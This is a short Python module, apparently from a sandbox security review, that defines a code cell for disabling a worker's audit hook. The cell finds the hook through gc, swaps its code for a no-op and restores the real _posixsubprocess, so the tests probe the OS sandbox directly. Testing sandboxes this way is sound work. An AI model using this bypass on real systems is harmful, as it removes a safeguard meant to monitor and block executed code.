"""The review's first move in every OS-boundary attack: switch the worker's audit hook off.

``UNHOOK`` is a cell: it finds the hook with ``gc`` and replaces its code, and brings the
real ``_posixsubprocess`` back, so that what stops the rest of an attack is the sandbox, not
Python. It sets ``UNHOOKED`` to the number of hooks it replaced (a test checks it is >= 1).
"""

UNHOOK = '''
import gc, sys
def _unhook():
    count = 0
    for obj in gc.get_objects():
        code = getattr(obj, "__code__", None)
        if code is not None and getattr(obj, "__name__", "") == "hook" and code.co_varnames[:2] == ("event", "args"):
            names = code.co_freevars
            src = ("def outer():\\n" + "".join(f"    {n} = None\\n" for n in names)
                   + "    def hook(event, args):\\n" + (f"        {', '.join(names)}\\n" if names else "")
                   + "        return None\\n    return hook\\n")
            scope = {}
            exec(src, scope)
            obj.__code__ = scope["outer"]().__code__
            count += 1
    return count
UNHOOKED = _unhook()
del sys.modules["_posixsubprocess"]
import _posixsubprocess, subprocess
subprocess._posixsubprocess = _posixsubprocess
'''
